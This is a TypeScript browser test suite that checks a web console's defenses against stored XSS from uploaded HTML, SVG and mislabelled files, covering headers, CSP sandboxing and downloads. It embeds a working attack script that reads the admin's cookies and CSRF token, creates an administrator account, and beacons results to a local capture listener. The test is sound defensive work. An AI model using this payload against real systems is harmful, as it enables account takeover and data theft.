import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Response as PageResponse } from 'playwright-core';
import { ADMIN_PASSWORD, basicAuth, type ConsoleRun, signIn, startConsole } from '../support/console';

const UPLOADER_PASSWORD = 'uploader-password-1';

/**
 * The attack of issue 13, in a real browser: what an uploader's script would do once an
 * Administrator opens the file — read the console's cookies (the CSRF token), create a user and
 * make it an administrator — reporting each step to a capture listener.
 */
function attackScript(capture: string): string {
  return `
(function () {
  var beacon = function (what) { new Image().src = '${capture}/' + what + '&t=' + Math.random(); };
  var cookie;
  try { cookie = document.cookie; } catch (e) { cookie = 'blocked:' + e.name; }
  beacon('ran?cookie=' + encodeURIComponent(cookie) + '&origin=' + encodeURIComponent(String(window.origin)));
  var token = (/XSRF-TOKEN=([^;]+)/.exec(cookie) || [])[1] || '';
  var post = function (path, body) {
    return fetch(path, {
      method: 'POST', credentials: 'include',
      headers: { 'Content-Type': 'application/json', 'X-XSRF-TOKEN': decodeURIComponent(token) },
      body: JSON.stringify(body),
    });
  };
  post('/api/security/users', { userName: 'mallory', password: 'Mallory-Password-1' })
    .then(function (r) {
      beacon('created?status=' + r.status);
      return post('/api/security/privileges', { principalType: 'user', principalName: 'mallory', role: 'Administer', feed: null });
    })
    .then(function (r) { beacon('granted?status=' + r.status); })
    .catch(function (e) { beacon('failed?error=' + encodeURIComponent(e.name)); });
})();`;
}

/** A listener that records the paths a page's script sends it (127.0.0.1 only). */
async function startCapture(): Promise<{ url: string; hits: URL[]; close(): Promise<void> }> {
  const hits: URL[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(new URL(req.url ?? '/', 'http://capture'));
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Issue 13's critical finding: an uploaded HTML or SVG file opened by a signed-in Administrator. */
describe('console: uploaded files cannot act as the signed-in administrator', () => {
  let run: ConsoleRun;
  let capture: Awaited<ReturnType<typeof startCapture>>;
  let page: Page;

  const admin = (method: string, path: string, body?: unknown) =>
    fetch(`${run.server.url}${path}`, {
      method,
      headers: { Authorization: run.server.adminAuth, 'Content-Type': 'application/json' },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  async function must(res: Promise<Response>, status: number): Promise<Response> {
    const r = await res;
    if (r.status !== status) throw new Error(`setup: expected ${status}, got ${r.status} ${await r.text()}`);
    return r;
  }
  /** An upload by a user who holds Publish (View, Download, Add) on the directory, nothing more. */
  const uploadAsPublisher = (feed: string, path: string, body: string, contentType?: string) =>
    must(
      fetch(`${run.server.url}/endpoints/${feed}/content/${path}`, {
        method: 'PUT',
        headers: {
          Authorization: basicAuth('uploader', UPLOADER_PASSWORD),
          ...(contentType ? { 'Content-Type': contentType } : {}),
        },
        body: Buffer.from(body),
      }),
      201,
    );
  const userNames = async () =>
    ((await (await must(admin('GET', '/api/security/users'), 200)).json()) as { userName: string }[]).map(
      (u) => u.userName,
    );

  /** Opens a URL in the administrator's tab; answers the response's headers and whether it was a download. */
  async function open(url: string): Promise<{ headers: Record<string, string>; download?: string }> {
    let response: PageResponse | undefined;
    const onResponse = (r: PageResponse) => {
      if (r.url() === url) response = r;
    };
    page.on('response', onResponse);
    const download = page.waitForEvent('download', { timeout: 15_000 }).then(
      (d) => d.suggestedFilename(),
      () => undefined,
    );
    const navigated = await page.goto(url).then(
      () => true,
      () => false, // a download aborts the navigation
    );
    page.off('response', onResponse);
    if (!response) throw new Error(`no response seen for ${url}`);
    return { headers: await response.allHeaders(), download: navigated ? undefined : await download };
  }

  beforeAll(async () => {
    capture = await startCapture();
    run = await startConsole();
    for (const name of ['uploads', 'reports']) {
      await must(admin('POST', '/api/management/feeds/create', { name, feedType: 'asset' }), 200);
    }
    await must(admin('POST', '/api/security/users', { userName: 'uploader', password: UPLOADER_PASSWORD }), 201);
    for (const feed of ['uploads', 'reports']) {
      await must(
        admin('POST', '/api/security/privileges', {
          principalType: 'user',
          principalName: 'uploader',
          role: 'Publish',
          feed,
        }),
        201,
      );
    }
    const script = attackScript(capture.url);
    await uploadAsPublisher('uploads', 'x.html', `<!doctype html><title>x</title><script>${script}</script>`);
    await uploadAsPublisher(
      'uploads',
      'logo.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>${script.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</script></svg>`,
    );
    await uploadAsPublisher('uploads', 'notes.txt', `<script>${script}</script>`, 'text/html');
    await uploadAsPublisher('reports', 'report.html', `<!doctype html><title>r</title><script>${script}</script>`);

    ({ page } = await run.open('/'));
    await signIn(page, 'Admin', ADMIN_PASSWORD);
  });
  afterAll(async () => {
    await run?.close();
    await capture?.close();
  });

  it('the console is served with a strict CSP that nothing may frame, and runs under it', async () => {
    for (const path of ['/', '/api/security/me']) {
      const res = await fetch(`${run.server.url}${path}`, { headers: { Accept: 'text/html' } });
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toMatch(/(^|; )script-src 'self'(;|$)/);
      expect(csp).toContain("object-src 'none'");
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('same-origin');
    }
    // The console works under it: signed in (beforeAll), a file page with its preview renders.
    await page.goto('/feeds/uploads/files/notes.txt');
    await page.getByTestId('download-file').waitFor();
    await page.goto('/feeds/uploads/browse');
    await page.getByText('logo.svg').first().waitFor();
    expect(run.cspViolations).toEqual([]);
    // And Chromium enforces it: an injected inline script does not run, and is reported.
    await page.addScriptTag({ content: 'window.injected = true;' }).catch(() => undefined);
    expect(await page.evaluate(() => (window as { injected?: boolean }).injected)).toBeUndefined();
    expect(run.cspViolations.splice(0).some((v) => /inline script/i.test(v))).toBe(true);
  });

  it.each([
    ['x.html', 'an HTML file'],
    ['logo.svg', 'an SVG with a script'],
    ['notes.txt', 'a file uploaded as text/html under a harmless name'],
  ])('%s (%s) opened by the administrator is a sandboxed download', async (name) => {
    const url = `${run.server.url}/endpoints/uploads/content/${name}`;
    const { headers, download } = await open(url);
    expect(download).toBe(name);
    expect(headers['content-disposition']).toBe(`attachment; filename="${name}"`);
    expect(headers['content-security-policy']).toBe('sandbox');
    expect(headers['x-content-type-options']).toBe('nosniff');
  });

  it('in a directory an administrator opened to inline HTML, the script runs without the console origin', async () => {
    await must(admin('POST', '/api/management/feeds/update/reports', { inlineContent: true }), 200);
    const { headers, download } = await open(`${run.server.url}/endpoints/reports/content/report.html`);
    expect(download).toBeUndefined();
    expect(headers['content-security-policy']).toMatch(/^sandbox /);
    expect(headers['content-security-policy']).not.toMatch(/allow-same-origin/);
    // The page reports back: it ran (the control that the capture works), in an opaque origin,
    // where the cookie cannot be read and the API refuses it.
    const hit = async (what: string) => {
      for (let i = 0; i < 200 && !capture.hits.some((h) => h.pathname === `/${what}`); i++) {
        await new Promise((r) => setTimeout(r, 50));
      }
      return capture.hits.find((h) => h.pathname === `/${what}`);
    };
    const ran = await hit('ran');
    expect(ran).toBeDefined();
    expect(ran?.searchParams.get('origin')).toBe('null');
    expect(ran?.searchParams.get('cookie')).toMatch(/^blocked:SecurityError$/);
    const outcome = (await hit('failed')) ?? (await hit('created'));
    expect(outcome).toBeDefined();
    expect(outcome?.searchParams.get('status')).not.toBe('201');
  });

  it('nothing was created and no cookie reached the capture listener', async () => {
    expect(await userNames()).not.toContain('mallory');
    const cookies = await page.context().cookies();
    const secrets = cookies.map((c) => c.value).filter((v) => v.length >= 8);
    expect(secrets.length).toBeGreaterThan(0); // signed in: there were cookies to steal
    for (const hit of capture.hits) {
      for (const secret of secrets) expect(decodeURIComponent(hit.search)).not.toContain(secret);
    }
    // Only the inline directory's page ran at all.
    expect(capture.hits.filter((h) => h.pathname === '/ran').length).toBe(1);
  });
});
